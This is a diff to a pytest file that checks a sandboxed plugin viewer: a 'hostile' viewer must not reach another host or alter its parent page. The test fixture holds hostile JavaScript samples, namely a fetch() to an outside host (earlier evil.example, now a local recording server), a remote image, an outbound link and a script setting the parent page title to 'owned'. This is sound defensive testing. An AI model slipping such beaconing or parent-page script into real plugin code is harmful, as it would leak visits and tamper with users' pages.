@@ -3,9 +3,11 @@
 from __future__ import annotations
 
 import shutil
+import threading
 from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from typing import Any
+from typing import Any, ClassVar
 
 import pytest
 
@@ -21,9 +23,9 @@ TEXT = (
 VIEWERS = {
     "good": "export const draw = (s) => `<svg width='80'><title>${s.id}</title></svg><p id='ok'>drawn</p>`;",
     "hostile": (
-        "try { fetch('https://evil.example/' + 1).catch(() => {}) } catch {}\n"
-        "export const draw = () => `<p id='ok'>drawn</p><img src='https://evil.example/x.png'>"
-        '<script>parent.document.title="owned"</script><a id="away" href="https://evil.example">x</a>`;'
+        "try { fetch('ELSEWHERE/fetched').catch(() => {}) } catch {}\n"
+        "export const draw = () => `<p id='ok'>drawn</p><img src='ELSEWHERE/x.png'>"
+        '<script>parent.document.title="owned"</script><a id="away" href="ELSEWHERE/away">x</a>`;'
     ),
     "throws": "export const draw = () => { throw new Error('no board') };",
     "loops": "export const draw = () => { for (;;) {} };",
@@ -32,13 +34,40 @@ VIEWERS = {
 }
 
 
+class Elsewhere(BaseHTTPRequestHandler):
+    """Another host, which notes what it is asked for."""
+
+    asked: ClassVar[list[str]] = []
+
+    def do_GET(self) -> None:
+        self.asked.append(self.path)
+        self.send_response(200)
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.send_header("Content-Length", "0")
+        self.end_headers()
+
+    def log_message(self, *_: Any) -> None:
+        pass
+
+
 @pytest.fixture(scope="module")
-def project(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
+def elsewhere() -> Iterator[str]:
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_port}"
+    server.shutdown()
+    server.server_close()
+    thread.join()
+
+
+@pytest.fixture(scope="module")
+def project(tmp_path_factory: pytest.TempPathFactory, elsewhere: str) -> Iterator[Path]:
     folder = tmp_path_factory.mktemp("drawn")
     viewers = folder / ".rollscope" / "viewers"
     viewers.mkdir(parents=True)
     for name, source in VIEWERS.items():
-        (viewers / f"{name}.js").write_text(source)
+        (viewers / f"{name}.js").write_text(source.replace("ELSEWHERE", elsewhere))
     with rs.init(project="p", id="a", dir=folder / "runs", host=False) as run:
         samples = [
             {"id": f"s-{env}", "group": env, "env": env, "prompt": "Question", "completion": TEXT, "reward": 1.0}
@@ -87,19 +116,19 @@ def test_a_trusted_viewer_draws_its_environment(site: str, tab: Any) -> None:
     assert "# Head" in tab.inner_text(".conversation")  # the text stays below
 
 
-def test_a_hostile_viewer_reaches_nothing(site: str, browser: Any) -> None:
+def test_a_hostile_viewer_reaches_nothing(site: str, elsewhere: str, browser: Any) -> None:
     watched = Watched(browser)
     tab = watched.page
     tab.goto(f"{site}r/a/rollouts?group=hostile")
     frame = frame_of(tab)
     assert frame.inner_text("#ok") == "drawn"
     frame.evaluate("document.querySelector('#away').click()")
-    until(tab, "document.title !== 'owned'")
-    assert tab.evaluate("location.href").startswith(site)
-    reached = [url for url in watched.requests if "evil.example" in url]
-    blocked = [error for error in watched.errors if "Content Security Policy" in error]
+    tab.evaluate("fetch('/api/runs').then((reply) => reply.text())")  # asked for later, answered
+    assert tab.title() != "owned" and tab.evaluate("location.href").startswith(site)
+    assert Elsewhere.asked == []
+    tab.goto(f"{elsewhere}/control")  # the page itself can reach it
     watched.context.close()
-    assert not reached or len(blocked) >= len(reached)
+    assert "/control" in Elsewhere.asked
 
 
 @pytest.mark.parametrize("env", ["throws", "loops", "broken", "empty"])
